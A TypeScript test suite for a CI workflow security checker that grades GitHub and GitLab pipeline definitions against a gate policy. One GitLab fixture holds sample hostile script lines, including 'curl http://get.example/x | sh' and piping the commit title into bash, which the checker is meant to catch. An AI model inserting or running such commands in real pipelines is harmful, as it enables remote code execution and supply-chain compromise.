import { describe, expect, it } from 'vitest';
import type { PostureInspection } from '#broker/posture-source.ts';
import { silentLogger } from '#core/log.ts';
import type { WorkloadIdentity } from '#identity/workload-identity.ts';
import { createPostureSource, type PostureSourceOptions } from './create-posture-source.ts';
import { defaultGatePolicy, type LoadedGatePolicy, readGatePolicy } from './gate-policy.ts';
import type { ReportedSummary } from './reported-findings.ts';
import { createDirectThreads } from './testing/direct-threads.ts';
import { createMemorySource, shaOf } from './testing/memory-source.ts';
import { cleanWorkflow, DEPLOY, poisonedWorkflow } from './testing/workflows.ts';

const [CLEAN, POISONED, SAME] = [shaOf('c'), shaOf('b'), shaOf('d')];

function job(commit: string, change: Partial<WorkloadIdentity> = {}): WorkloadIdentity {
  return {
    provider: 'github',
    platform: 'github-actions',
    issuer: 'https://issuer.example',
    subject: 'repo:acme/shop',
    project: { id: '1', path: 'acme/shop' },
    ref: { full: 'refs/heads/main' },
    commit,
    config: { uri: `acme/shop/${DEPLOY}@refs/heads/main`, sha: commit },
    claims: {},
    ...change,
  };
}

function open(change: Partial<PostureSourceOptions> = {}) {
  const clock = { ms: Date.UTC(2026, 10, 2, 10), nowMs: () => clock.ms };
  const threads = createDirectThreads();
  const source = createMemorySource({
    'acme/shop': {
      commits: {
        [CLEAN]: { [DEPLOY]: cleanWorkflow },
        [SAME]: { [DEPLOY]: cleanWorkflow, 'src/a.ts': 'changed' },
        [POISONED]: { [DEPLOY]: poisonedWorkflow },
      },
      head: CLEAN,
    },
  });
  const postures = createPostureSource({
    sources: new Map([['github', source]]),
    policy: defaultGatePolicy(),
    suppressions: 'default-branch',
    timeoutMs: 5_000,
    threads,
    reported: undefined,
    version: '1',
    rulesVersion: 'r1',
    clock,
    log: silentLogger,
    ...change,
  });
  return { clock, threads, source, postures };
}

function postureIn(inspection: PostureInspection) {
  if (!inspection.known) throw new Error(inspection.reason);
  return inspection.posture;
}

function policyOf(text: string): LoadedGatePolicy {
  const read = readGatePolicy('p.yaml', text);
  if (!read.ok) throw new Error(JSON.stringify(read.problems));
  return read.policy;
}

describe('the posture of a job', () => {
  it('is clean where its workflow is, and fails by the finding that blocks', async () => {
    const { postures } = open();
    expect(postureIn(await postures.postureOf(job(CLEAN))).facts).toMatchObject({
      grade: 'pass',
      blocking: 0,
      critical: 0,
      high: 0,
      workflowDigest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
    });
    const bad = postureIn(await postures.postureOf(job(POISONED)));
    expect(bad.facts).toMatchObject({
      grade: 'fail',
      critical: 1,
      rules: expect.arrayContaining(['untrusted-checkout']),
    });
    expect(bad.findings[0]).toMatchObject({
      rule: 'untrusted-checkout',
      file: DEPLOY,
      line: 10,
      repository: 'acme/shop',
      commit: POISONED,
      remedy: expect.stringMatching(/./u),
    });
    expect(bad.facts.reported).toBeUndefined();
  });

  it('is known at once the second time, as old as it is, and looked for again after a while', async () => {
    const { postures, clock, source } = open();
    await postures.postureOf(job(CLEAN));
    const opened = source.opened.length;
    clock.ms += 100_000;
    const again = postures.postureOf(job(CLEAN));
    expect(again).not.toBeInstanceOf(Promise);
    expect(postureIn(await again).facts.ageSeconds).toBe(100);
    expect(source.opened).toHaveLength(opened);
    clock.ms += 300_000;
    expect(postureIn(await postures.postureOf(job(CLEAN))).facts.ageSeconds).toBe(0);
    expect(source.opened.length).toBeGreaterThan(opened);
  });

  it('is not worked out anew for other code with the same definitions', async () => {
    const { postures, threads } = open();
    const first = postureIn(await postures.postureOf(job(CLEAN)));
    const { count } = threads.inspected;
    const second = postureIn(await postures.postureOf(job(SAME)));
    expect(threads.inspected.count).toBe(count);
    expect(second).toMatchObject({ commit: SAME, facts: { workflowDigest: first.facts.workflowDigest } });
  });

  it('names the commit that was asked for, also when its contents were seen at another', async () => {
    const source = createMemorySource({
      'acme/shop': {
        commits: { [POISONED]: { [DEPLOY]: poisonedWorkflow }, [SAME]: { [DEPLOY]: poisonedWorkflow } },
      },
    });
    const { postures } = open({ sources: new Map([['github', source]]) });
    await postures.postureOf(job(POISONED));
    expect(postureIn(await postures.postureOf(job(SAME))).findings[0]?.commit).toBe(SAME);
  });

  it('is one inspection for all jobs of a run', async () => {
    const { postures, threads } = open();
    const all = await Promise.all(Array.from({ length: 20 }, async () => postures.postureOf(job(POISONED))));
    expect(all.every(({ known }) => known)).toBe(true);
    expect(threads.inspected.count).toBe(1);
  });

  it('follows the policy of the gate, its refs and its days', async () => {
    const policy = policyOf(`version: 1
rules:
  - { name: later, action: block, from: 2026-11-03, when: { severity: critical }, where: { refs: [refs/heads/main] } }
`);
    const { postures, clock } = open({ policy });
    const gradeOn = async (ref: string) =>
      postureIn(await postures.postureOf(job(POISONED, { ref: { full: ref } }))).facts.grade;
    expect(await gradeOn('refs/heads/main')).toBe('warn');
    expect(await gradeOn('refs/heads/x')).toBe('pass');
    clock.ms += 86_400_000;
    expect(await gradeOn('refs/heads/main')).toBe('fail');
  });

  it('lets pass what the default branch has, where the policy is about new findings', async () => {
    const policy = policyOf(
      'version: 1\nrules: [{ name: new, action: block, when: { severity: high, newOnly: true } }]\n',
    );
    const commits = {
      [POISONED]: { [DEPLOY]: poisonedWorkflow },
      [SAME]: { [DEPLOY]: poisonedWorkflow },
      [CLEAN]: { [DEPLOY]: cleanWorkflow },
    };
    const gradeWith = async (head: string | undefined) => {
      const source = createMemorySource({
        'acme/shop': { commits, ...(head === undefined ? {} : { head }) },
      });
      const { postures } = open({ policy, suppressions: 'none', sources: new Map([['github', source]]) });
      return postureIn(await postures.postureOf(job(POISONED))).facts.grade;
    };
    expect(await gradeWith(SAME)).toBe('pass');
    expect(await gradeWith(CLEAN)).toBe('fail');
    // Nothing to compare with: everything is new.
    expect(await gradeWith(undefined)).toBe('fail');
  });

  it('reads what a configuration of GitLab includes, wherever it lies', async () => {
    const bad =
      'deploy: { script: [\'echo "$CI_COMMIT_TITLE" | bash\', "curl http://get.example/x | sh"] }\n';
    const commits = {
      [CLEAN]: {
        'ci/main.yml': 'include: [{ local: /ci/jobs/*.yml }, { local: ci/more.yml }]\n',
        'ci/jobs/deploy.yml': bad,
        'ci/more.yml': 'include: /elsewhere/last.yml\n',
        'elsewhere/last.yml': 'test: { script: make }\n',
        'ci/unused.yml': bad,
      },
    };
    const source = createMemorySource({ 'acme/team/shop': { commits, head: CLEAN } });
    const { postures } = open({
      sources: new Map([['gitlab', source]]),
      policy: policyOf('version: 1\nrules: [{ name: any, action: block, when: { persona: auditor } }]\n'),
    });
    const config = { uri: 'gitlab.example//x', sha: CLEAN };
    const identity = job(CLEAN, { provider: 'gitlab', platform: 'gitlab-ci', config });
    expect(await postures.postureOf(identity)).toMatchObject({ known: false });
    config.uri = 'gitlab.example/acme/team/shop//ci/main.yml@refs/heads/main';
    const { facts, findings, workflow } = postureIn(await postures.postureOf(identity));
    expect([workflow, facts.grade]).toEqual(['ci/main.yml', 'fail']);
    expect(new Set(findings.map(({ file }) => file))).toContain('ci/jobs/deploy.yml');
    expect(new Set(findings.map(({ file }) => file))).not.toContain('ci/unused.yml');
  });

  it('judges the workflow of another repository that the job itself comes from', async () => {
    const release = '.github/workflows/release.yml';
    const caller = cleanWorkflow.replace(
      / {4}runs-on[\s\S]*/,
      `    uses: acme/pipelines/${release}@${SAME} # v1.0.0\n`,
    );
    const called = poisonedWorkflow.replace('on:\n', 'on:\n  workflow_call: {}\n');
    const source = createMemorySource({
      'acme/shop': { commits: { [CLEAN]: { [DEPLOY]: caller } }, head: CLEAN },
      'acme/pipelines': {
        commits: { [POISONED]: { [release]: called }, [SAME]: { [release]: cleanWorkflow } },
        head: SAME,
      },
    });
    const { postures } = open({ sources: new Map([['github', source]]) });
    const calling = (sha: string) =>
      job(CLEAN, { callee: { uri: `acme/pipelines/${release}@refs/heads/main`, sha } });
    const ok = postureIn(await postures.postureOf(calling(SAME)));
    expect([ok.facts.blocking, ok.findings]).toEqual([0, []]);
    const bad = postureIn(await postures.postureOf(calling(POISONED)));
    expect(bad.facts.grade).toBe('fail');
    expect(bad.findings[0]).toMatchObject({ repository: 'acme/pipelines', commit: POISONED, file: release });
  });

  it('joins what other tools reported, as it is at the moment', async () => {
    const inputs = [
      { tool: 'trivy', toolVersion: '1', findings: 1, kinds: ['SCA'], ranAtMs: undefined, digest: undefined },
    ];
    const finding = {
      tool: 'trivy',
      rule: 'CVE-2021-44228',
      severity: 'critical',
      confidence: 'high',
      persona: 'regular',
      message: 'm',
      remedy: 'Update.',
      repository: 'acme/shop',
      commit: CLEAN,
      file: 'pom.xml',
      line: 1,
      fingerprint: 'f',
      isNew: undefined,
    } as const;
    let summary: ReportedSummary | undefined;
    const { postures } = open({ reported: { openFor: () => summary } });
    expect(postureIn(await postures.postureOf(job(CLEAN))).facts).not.toHaveProperty('reported');
    summary = { findings: [], inputs };
    expect(postureIn(await postures.postureOf(job(CLEAN))).facts).toMatchObject({
      grade: 'pass',
      coverage: ['SCA'],
      reported: { critical: 0, sources: ['trivy'] },
    });
    summary = { findings: [finding], inputs };
    const posture = postureIn(await postures.postureOf(job(CLEAN)));
    expect(posture.facts).toMatchObject({
      grade: 'fail',
      critical: 0,
      blocking: 1,
      reported: { critical: 1 },
    });
    expect(posture.findings[0]).toMatchObject({ rule: 'trivy: CVE-2021-44228', file: 'pom.xml' });
  });
});

describe('unknown is not clean', () => {
  it.each<[string, WorkloadIdentity, boolean]>([
    ['a commit that the source does not have', job(shaOf('e')), true],
    ['a provider without a source', job(CLEAN, { provider: 'gitlab' }), false],
    ['a token that names no commit', job(CLEAN, { config: undefined, commit: undefined }), false],
    [
      'a workflow that is not there',
      job(CLEAN, { config: { uri: 'acme/shop/.github/workflows/x.yml@a', sha: CLEAN } }),
      true,
    ],
    [
      'a called workflow that is not there',
      job(CLEAN, { callee: { uri: 'acme/other/.github/workflows/x.yml@a', sha: CLEAN } }),
      true,
    ],
  ])('%s', async (_, identity, retryable) => {
    const { postures } = open();
    expect(await postures.postureOf(identity)).toMatchObject({ known: false, retryable });
  });

  it('an inspection that takes too long, which goes on for the next attempt', async () => {
    const gate: { release: () => void } = { release: () => {} };
    const opened = new Promise<void>((resolve) => {
      gate.release = resolve;
    });
    const source = createMemorySource({ 'acme/shop': { commits: { [CLEAN]: { [DEPLOY]: cleanWorkflow } } } });
    const slow = {
      ...source,
      async open(...args: Parameters<typeof source.open>) {
        await opened;
        return source.open(...args);
      },
    };
    const { postures } = open({ timeoutMs: 50, sources: new Map([['github', slow]]) });
    expect(await postures.postureOf(job(CLEAN))).toMatchObject({ known: false, retryable: true });
    gate.release();
    await expect.poll(async () => (await postures.postureOf(job(CLEAN))).known).toBe(true);
  });

  it('more pipelines than can be inspected at once', async () => {
    const never = { open: () => new Promise<never>(() => {}), defaultCommit: async () => undefined };
    const { postures } = open({ timeoutMs: 100, sources: new Map([['github', never]]) });
    const digits = '0123456789abcdef';
    const asked = Array.from({ length: 80 }, async (_, index) =>
      postures.postureOf(job(`${digits[index % 16]}${digits[Math.floor(index / 16)]}${'0'.repeat(38)}`)),
    );
    const reasons = (await Promise.all(asked)).map((each) => (each.known ? '' : each.reason));
    expect(reasons.filter((reason) => reason.startsWith('too many'))).toHaveLength(16);
    expect(reasons.filter((reason) => reason.includes('longer than 100 ms'))).toHaveLength(64);
  });

  it('a source that never answers, which does not keep the server from ending', async () => {
    const never = { open: () => new Promise<never>(() => {}), defaultCommit: async () => undefined };
    const { postures } = open({ timeoutMs: 50, sources: new Map([['github', never]]) });
    await postures.postureOf(job(CLEAN));
    await postures.close();
  });

  it('a definition that cannot be read, or is larger than anybody writes', async () => {
    const commits = {
      [POISONED]: { [DEPLOY]: 'on: [push\njobs: {' },
      [SAME]: { [DEPLOY]: `${cleanWorkflow}# ${'x'.repeat(3_000_000)}` },
    };
    const { postures } = open({
      sources: new Map([['github', createMemorySource({ 'acme/shop': { commits } })]]),
    });
    for (const commit of [POISONED, SAME]) {
      const posture = postureIn(await postures.postureOf(job(commit)));
      expect(posture.facts.grade).toBe('fail');
      expect(posture.reasons[0]).toContain(`not read: ${DEPLOY}`);
    }
  });
});
